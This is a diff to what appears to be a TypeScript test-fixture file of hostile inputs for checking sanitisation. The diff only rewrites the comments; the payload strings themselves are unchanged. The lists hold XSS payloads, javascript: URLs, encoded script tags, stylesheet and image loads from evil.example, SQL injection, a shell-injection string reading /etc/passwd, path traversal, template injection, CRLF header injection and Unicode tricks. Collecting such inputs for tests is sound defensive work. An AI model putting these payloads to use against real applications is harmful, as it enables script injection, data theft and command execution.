@@ -1,4 +1,4 @@
-/** Addresses that are no web addresses, or another’s than they seem. */
+/** URLs that are not web URLs, or that lead elsewhere than they seem to. */
 export const hostileAddresses: readonly string[] = [
   'javascript:alert(42)',
   'JaVaScRiPt:alert(43)',
@@ -18,11 +18,11 @@ export const hostileAddresses: readonly string[] = [
 ];
 
 /**
- * What people write to break out of a text: into markup, an attribute, a script, a style, an address, a template, a
- * header or the line of another. Each is of another kind, and each can be stored.
+ * Texts that try to break out of their context: into markup, an attribute, a script, a style, a URL, a template, a
+ * header or another line. All different, and all can be stored.
  */
 export const hostileTexts: readonly string[] = [
-  // Markup that runs by itself.
+  // Markup that runs scripts.
   '<script>alert(1)</script>',
   '<ScRiPt >alert(2)</sCrIpT>',
   '<scr<script>ipt>alert(3)</scr</script>ipt>',
@@ -58,7 +58,7 @@ export const hostileTexts: readonly string[] = [
   '<style>@import "//evil.example/a.css";body{display:none}</style>',
   '<p style="background:url(//evil.example/b.png)">x',
   '<x style="width:expression(alert(29))">',
-  // Out of what stands around it.
+  // Breaking out of the surrounding context.
   '"><b id=config>hola</b>',
   "'-alert(30)-'",
   '";alert(31)//',
@@ -77,7 +77,7 @@ export const hostileTexts: readonly string[] = [
   '<a href="javascript:alert(55)">tocá</a>',
   '<a id=config href=x>clobber</a>',
   '[tocá](javascript:alert(56))',
-  // What a decoder would make into one of those.
+  // Encoded forms of those.
   '&lt;script&gt;alert(57)&lt;/script&gt;',
   '&#106;avascript:alert(58)',
   '&#x3c;img src=x onerror=alert(59)&#x3e;',
@@ -86,19 +86,19 @@ export const hostileTexts: readonly string[] = [
   '\\x3cscript\\x3ealert(62)',
   '+ADw-script+AD4-alert(63)+ADw-/script+AD4-',
   '\uFF1Cscript\uFF1Ealert(64)\uFF1C/script\uFF1E',
-  // Templates, formats, commands, names that objects have.
+  // Templates, format strings, commands, property names of objects.
   '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor("alert(65)")()}}',
   '{actor} $& $1 $$ %s %d %n %%',
   "'; DROP TABLE users; --",
   '$(touch /tmp/x) `id` | cat /etc/passwd; ../../etc/passwd',
   '__proto__ constructor prototype toString hasOwnProperty',
   '=HYPERLINK("http://evil.example","tocá")',
-  // Lines and headers of others.
+  // Injected lines and headers.
   'hola\r\nBcc: x@evil.example\r\n\r\n<script>alert(66)</script>',
   'hola%0d%0aSet-Cookie: sid=x',
   'a\u2028alert(67)\u2029b',
   'data: {"x":1}\n\nevent: session-ended\ndata: {}',
-  // Letters that turn, pile up, join or hide.
+  // Characters that reverse, stack, join or are invisible.
   'hola \u202Eodreuca ed\u202C \u2066x\u2069',
   `a${'\u0301'.repeat(1000)}`,
   '👨‍👩‍👧‍👦🏳️‍🌈🇦🇷',
@@ -106,5 +106,5 @@ export const hostileTexts: readonly string[] = [
   `${'a'.repeat(1900)}<img src=x onerror=alert(68)>`,
 ];
 
-/** What no database holds: it must be refused or cleaned. */
+/** Texts that the database cannot store: they must be refused or cleaned. */
 export const unstorableTexts: readonly string[] = ['a\u0000<b>', '\uD800<b>', 'b\uDC00<b>'];
